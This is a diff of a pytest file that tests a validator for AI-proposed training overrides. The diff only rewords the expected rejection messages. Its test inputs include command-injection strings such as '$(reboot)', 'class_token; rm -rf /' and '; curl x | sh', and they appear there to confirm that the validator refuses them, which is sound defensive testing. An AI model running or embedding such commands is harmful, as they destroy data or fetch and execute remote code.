@@ -51,8 +51,8 @@ def spec_of(kind: Any, prune_metric: str = "") -> CampaignSpec:
         ({"budget.cost": 1000}, "'budget.cost' is not in the space"),
         ({"runs_dir": "/etc"}, "'runs_dir' is not in the space"),
         ({"optim.lr": 1.0}, "it may lie in 1e-05 .. 0.01"),
-        ({"optim.lr": "$(reboot)"}, "which is no number"),
-        ({"optim.lr": True}, "which is no number"),
+        ({"optim.lr": "$(reboot)"}, "which is not a number"),
+        ({"optim.lr": True}, "which is not a number"),
         ({"optim.lr": float("nan")}, "it may lie in"),
         ({"objective.koleo_on": "class_token; rm -rf /"}, "it may be one of"),
         ({"objective.koleo_on": ["class_token"]}, "it may be one of"),
@@ -118,8 +118,8 @@ def test_a_proposal_of_the_model_becomes_overrides(model: type[StubModel]) -> No
 @pytest.mark.parametrize(
     ("content", "sentence"),
     [
-        ("I would lower the rate.", "the answer is no JSON"),
-        ("```json\n{}\n```", "the answer is no JSON"),
+        ("I would lower the rate.", "the answer is not JSON"),
+        ("```json\n{}\n```", "the answer is not JSON"),
         ("[]", "a JSON list, not an object"),
         ('{"overrides": {"optim.lr": 0.001}}', "lacks an object 'overrides' or a text 'hypothesis'"),
         ('{"hypothesis": 3, "overrides": {"optim.lr": 0.001}}', "lacks an object"),
@@ -133,9 +133,9 @@ def test_a_proposal_of_the_model_becomes_overrides(model: type[StubModel]) -> No
         ),
         ('{"hypothesis": "x", "overrides": {"resume": "; curl x | sh"}}', "'resume' is not in the space"),
         ('{"hypothesis": "x", "overrides": {"optim.lr": NaN}}', "it may lie in"),
-        ({"error": {"message": "no"}}, "no chat completion"),
-        ({"choices": [{"message": {"content": None}}]}, "answered without text"),
-        ({"choices": []}, "no chat completion"),
+        ({"error": {"message": "no"}}, "not a chat completion"),
+        ({"choices": [{"message": {"content": None}}]}, "holds no text"),
+        ({"choices": []}, "not a chat completion"),
     ],
 )
 def test_a_hostile_answer_is_refused_with_its_reason(
@@ -261,11 +261,11 @@ def test_a_model_runs_a_search_whatever_else_it_answers(
     assert all(arm.status == "FINISHED" and arm.price_per_hour == 0.5 for arm in arms.values())
     log = research_log(own_store)
     for words in (
-        "the answer is no JSON",
-        "'price_per_hour', which no proposal may set",
+        "the answer is not JSON",
+        "'price_per_hour', which a proposal may not set",
         "'seconds' is not in the space",
-        "which is no number",
-        "it is arm llm-000 again",
+        "which is not a number",
+        "it repeats arm llm-000",
         "hypothesis: higher",
         "outcome: finished, loss/total 0.5",
     ):
